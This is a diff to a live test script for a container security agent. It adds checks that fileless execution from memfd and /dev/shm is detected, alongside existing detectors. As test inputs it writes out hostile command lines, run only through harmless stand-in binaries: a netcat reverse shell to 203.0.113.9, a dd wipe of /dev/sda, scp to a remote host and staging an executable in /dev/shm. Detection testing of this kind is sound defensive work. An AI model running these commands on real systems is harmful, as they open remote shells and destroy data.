@@ -3,22 +3,27 @@
 # ones (docs/detectors.md), each with a positive and a negative case in real
 # runc containers: compiler, remote file copy, steganography, credential,
 # Google Cloud credential and GPG key searches, the two sudo CVEs, bulk
-# wiping, destructive command lines, netcat running a program; and an
-# exception by container name. The programs are harmless stand-ins under the
+# wiping, destructive command lines, netcat running a program, fileless
+# execution from a memfd and from /dev/shm; and exceptions by container name. The programs are harmless stand-ins under the
 # tools' names (busybox's applets where it has them): only the name and the
 # arguments decide, as in the reference's definitions.
 source "$(dirname "$0")/lib.sh"
 live_init
 OUT=$LIVE_DIR/findings.jsonl
 jqt() { jq -e "$@" >/dev/null 2>&1; }
-check "a container" start_container cw-det
-check "a build container" start_container cw-det-build
+# /dev/shm without noexec (runc's and Docker's default is noexec; a Kubernetes
+# emptyDir of medium Memory is not)
+SHM='.mounts |= map(if .destination == "/dev/shm" then .options -= ["noexec"] else . end)'
+check "a container" start_container cw-det "" '{}' "$SHM"
+check "a build container" start_container cw-det-build "" '{}' "$SHM"
 R=$LIVE_DIR/bundles/cw-det/rootfs
 for n in gcc scp steghide sudo sudoedit shred rm dd nc grep find gpg; do
 	cp "$LIVE_DIR/harmless" "$R/opt/$n"
 	cp "$LIVE_DIR/harmless" "$LIVE_DIR/bundles/cw-det-build/rootfs/opt/$n"
 done
-echo '{"exceptions": [{"rules": ["tool.compiler.*"], "names": ["cw-det-build"], "comment": "builds"}]}' >"$LIVE_DIR/exc.json"
+cc -O2 -static -o "$R/opt/memfd_exec" "$LIVE_ROOT/tests/live/memfd_exec.c" || not_ok "build memfd_exec"
+cp "$R/opt/memfd_exec" "$LIVE_DIR/bundles/cw-det-build/rootfs/opt/"
+echo '{"exceptions": [{"rules": ["tool.compiler.*", "technique.fileless.dev_shm"], "names": ["cw-det-build"], "comment": "builds"}]}' >"$LIVE_DIR/exc.json"
 check "agent starts" start_agent "$OUT" --technique-exceptions "$LIVE_DIR/exc.json"
 run() { cexec "${2:-cw-det}" "$LIVE_DIR/x.pid" sh -c "$1" >/dev/null 2>&1; }
 
@@ -53,12 +58,22 @@ expect "Impact: Detect Malicious Cmdlines" CRITICAL DETECT_MALICIOUS_CMDLINES no
 expect "Impact: Detect Malicious Cmdlines" CRITICAL DETECT_MALICIOUS_CMDLINES "of=/dev/sda" '/opt/dd if=/dev/zero of=/dev/sda'
 expect "Execution: Netcat Remote Code Execution in Container" LOW NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER 203.0.113.9 '/opt/nc -e /bin/sh 203.0.113.9'
 
+# fileless: a memfd and /dev/shm (the same harmless program from /tmp is silent)
+run 'cp /opt/gcc /tmp/plain && /tmp/plain; cp /opt/gcc /dev/shm/stage && /dev/shm/stage; /opt/memfd_exec /opt/scp x'
+f=$(wait_finding "$OUT" '.category == "Privilege Escalation: Fileless Execution in /dev/shm"')
+check "Fileless Execution in /dev/shm (HIGH, /dev/shm/stage)" jqt '.severity == "HIGH" and .moduleName == "FILELESS_EXECUTION_DETECTION_SHM" and .processes[0].binary.path == "/dev/shm/stage" and .sourceProperties.Rule_Id == "technique.fileless.dev_shm"' <<<"${f:-null}"
+f=$(wait_finding "$OUT" '.category == "Execution: Fileless Execution in /memfd:"')
+check "Fileless Execution in /memfd: (HIGH, $(jq -r .processes[0].binary.path <<<"${f:-null}"))" jqt '.severity == "HIGH" and (.processes[0].binary.path | startswith("/memfd:"))' <<<"${f:-null}"
+check "a program run from /tmp is no fileless finding" \
+	test -z "$(jq -c 'select(.processes[0].binary.path == "/tmp/plain")' "$OUT")"
+
 # the exception: a compiler in the build container is excepted, elsewhere not
 run '/opt/gcc -c build.c' cw-det-build
 run '/opt/scp a u@203.0.113.9:b' cw-det-build
+run 'cp /opt/gcc /dev/shm/b && /dev/shm/b' cw-det-build
 check "the build container's scp is still reported" \
 	test -n "$(wait_finding "$OUT" '.sourceProperties.Container_Id == "cw-det-build" and .category == "Exfiltration: Launch Remote File Copy Tools in Container"')"
-check "... and its compiler is excepted (tool.compiler.* for cw-det-build)" \
-	test -z "$(jq -c 'select(.sourceProperties.Container_Id == "cw-det-build" and (.category | test("Compiler")))' "$OUT")"
+check "... and its compiler and /dev/shm exec are excepted (by container name)" \
+	test -z "$(jq -c 'select(.sourceProperties.Container_Id == "cw-det-build" and (.category | test("Compiler|Fileless")))' "$OUT")"
 stop_agent
 live_done
